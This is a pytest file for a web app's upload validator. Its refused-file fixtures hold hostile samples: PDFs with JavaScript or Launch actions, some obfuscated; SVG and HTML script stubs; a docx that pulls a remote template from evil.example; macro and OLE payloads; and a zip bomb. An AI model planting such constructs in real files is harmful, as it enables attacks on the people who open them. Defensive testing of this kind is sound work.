"""Files by their content, and names that do nothing: names and contents that somebody sent on purpose."""

import json
import re
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.files import JPEG, PDF, TYPES, docx, packed, png, xlsx
from tests.support.sources import ROOT
from webapp.core.files import MOST_BYTES, MOST_UNPACKED, Kind, kind_of, safe_name

NAMES = json.loads((ROOT / "tests/vectors/hostile_names.json").read_text("utf-8"))["names"]


def objects(text: bytes) -> bytes:
    """Return a packed part of a PDF that says `text`."""
    head = b"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 40>>stream\n"
    return head + zlib.compress(text) + b"\nendstream endobj\n"


PACKED_SCRIPT = objects(b"3 0 <</S/JavaScript/JS(app.alert(1))>>")
ANY_PDF = Kind("pdf", "application/pdf")
RELS = '<Relationships><Relationship Id="r1" {0}/></Relationships>'
OUTSIDE = 'TargetMode="External" Target="https://evil.example/a.dotm" Type="http://schemas/attachedTemplate"'
TURNED = 'Type="http://schemas/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"'
LINK = 'Type="http://schemas/hyperlink" Target="https://www.gov.cn/" TargetMode="External"'
HTML = b"<!doctype html><script>alert(1)</script>"


def svg(text="<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"):
    return text.encode()


TAKEN = {
    "pdf": (PDF, "application/pdf"),
    "pdf that only speaks of it": (PDF.replace(b"trailer", b"% /EncryptMetadata\ntrailer"), "application/pdf"),
    "png": (png(), "image/png"),
    "jpeg": (JPEG, "image/jpeg"),
    "jpeg with zeros after it": (JPEG + b"\0\0", "image/jpeg"),
    "docx": (docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "xlsx": (xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "xlsx that knows its printer": (
        xlsx({"xl/printerSettings/printerSettings1.bin": "x"}),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "docx with a link": (
        docx({"word/_rels/document.xml.rels": RELS.format(LINK)}),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
}
REFUSED = {
    "nothing": (b"", "required"),
    "too large": (PDF + b"0" * MOST_BYTES, "large"),
    "pdf behind a password": (PDF.replace(b"trailer", b"trailer<</Encrypt 9 0 R>>"), "locked"),
    "pdf behind a password that is written otherwise": (PDF + b"<</#45ncrypt<</V 5>>>>\n%%EOF", "locked"),
    "docx behind a password": (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), "locked"),
    "svg": (svg(), "type"),
    "svg with a head": (svg("<?xml version='1.0'?><svg><script>alert(1)</script></svg>"), "type"),
    "svg behind a byte order mark": (b"\xef\xbb\xbf" + svg(), "type"),
    "svg packed": (zlib.compress(svg()), "type"),
    "html": (HTML, "type"),
    "html before a pdf": (HTML + PDF, "type"),
    "a blank before a pdf": (b" " + PDF, "type"),
    "pdf that never ends": (PDF.replace(b"%%EOF", b"") + HTML, "type"),
    "pdf with far more after it": (PDF + b"\n" * 1100 + HTML, "type"),
    "pdf of no version": (b"%PDF-\n%%EOF", "type"),
    "pdf with a script": (PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "active"),
    "pdf that starts a program": (PDF.replace(b"/Catalog", b"/Catalog/AA<</O<</S/Launch>>>>"), "active"),
    "pdf with a script by numbers": (PDF.replace(b"/Catalog", b"/Catalog/AA<</S/J#61vaScript>>"), "active"),
    "pdf with a script in a packed part": (PDF.replace(b"trailer", PACKED_SCRIPT + b"trailer"), "active"),
    "pdf with a packed part by numbers": (
        PDF.replace(b"trailer", PACKED_SCRIPT.replace(b"ObjStm", b"Obj#53t#6D") + b"trailer"), "active"
    ),
    "pdf with a packed part that says more": (
        PDF.replace(b"trailer", PACKED_SCRIPT.replace(b"/N 1", b"/DecodeParms<<>>/N 1") + b"trailer"), "active"
    ),
    "pdf with too much packed": (
        PDF.replace(b"trailer", objects(b" " * MOST_UNPACKED) + PACKED_SCRIPT + b"trailer"), "active"
    ),
    "pdf with a file in it": (PDF.replace(b"/Catalog", b"/Catalog/EmbeddedFile"), "active"),
    "png with html behind it": (png() + HTML, "type"),
    "png with a few bytes behind it": (png() + b"<b>", "type"),
    "png cut off": (png()[:-4], "type"),
    "only a png's first bytes": (b"\x89PNG\r\n\x1a\n" + HTML, "type"),
    "png whose chunk lies about its size": (b"\x89PNG\r\n\x1a\n\xff\xff\xff\xffIHDR" + b"0" * 40, "type"),
    "jpeg with html behind it": (JPEG + HTML, "type"),
    "only a jpeg's first bytes": (b"\xff\xd8\xff" + HTML, "type"),
    "gif": (b"GIF89a" + HTML, "type"),
    "program": (b"MZ\x90\x00" + b"0" * 60, "type"),
    "old word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 60, "type"),
    "zip of anything": (packed("readme.txt"), "type"),
    "zip cut off": (docx()[:-30], "type"),
    "jar": (packed("META-INF/MANIFEST.MF"), "type"),
    "only the first bytes of a zip": (b"PK\x03\x04" + HTML, "type"),
    "docx with macros": (docx({"word/vbaProject.bin": "x"}), "active"),
    "docx that says it has macros": (docx(types=TYPES.replace("application/xml", "macroEnabled.main+xml")), "active"),
    "docx with a template from elsewhere": (docx({"word/_rels/settings.xml.rels": RELS.format(OUTSIDE)}), "active"),
    "the same said the other way round": (docx({"word/_rels/settings.xml.rels": RELS.format(TURNED)}), "active"),
    "docx with a control": (docx({"word/activeX/activeX1.xml": "x"}), "active"),
    "xlsx with a program in it": (xlsx({"xl/media/run.exe": "x"}), "active"),
    "docx with an object in it": (docx({"word/embeddings/oleObject1.bin": "x"}), "active"),
    "docx with a page in it": (docx({"word/afchunk.html": "x"}), "active"),
    "a file that fills a disk": (docx({"word/media/a.xml": "0" * (MOST_UNPACKED + 1)}), "type"),
}  # fmt: skip


@pytest.mark.parametrize("name", TAKEN)
def test_what_is_taken(name):
    content, media_type = TAKEN[name]
    kind, problems = kind_of(content)
    assert not problems
    assert kind.media_type == media_type


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_refused(name):
    content, code = REFUSED[name]
    kind, problems = kind_of(content)
    assert kind is None
    assert [problem.code for problem in problems] == [code]


@given(
    st.binary(max_size=200), st.sampled_from([b"", b"%PDF-1.4", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"PK\x03\x04"])
)
def test_bytes_of_chance_are_taken_or_refused_and_nothing_else(content, first):
    kind, problems = kind_of(first + content)
    assert (kind is None) == bool(problems)


def test_there_are_enough_names():
    assert len(NAMES) + len(REFUSED) >= 60
    assert len(NAMES) >= 30


@pytest.mark.parametrize("given", NAMES, ids=ascii)
def test_names_do_nothing(given):
    harmless(safe_name(given, ANY_PDF))


@pytest.mark.parametrize("given", ["通知.pdf", "2026年第3季度公示.PDF", "表 一.pdf"])
def test_ordinary_names_stay_readable(given):
    assert safe_name(given, ANY_PDF).removesuffix(".pdf") == given.rpartition(".")[0].replace(" ", "_")


@given(st.text(max_size=200))
def test_any_name_does_nothing(given):
    harmless(safe_name(given, ANY_PDF))


def harmless(name):
    assert name.endswith(".pdf")
    assert name.count(".") == 1
    assert not re.search(
        r"[\x00-\x1f\x7f<>:\"/\\|?*%;&$`'\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]", name
    )
    assert not name.startswith((".", "-", " "))
    assert 5 <= len(name) <= 90
    assert not re.match(r"(?i)(con|prn|aux|nul|com\d|lpt\d)\.", name)
    name.encode("utf-8")
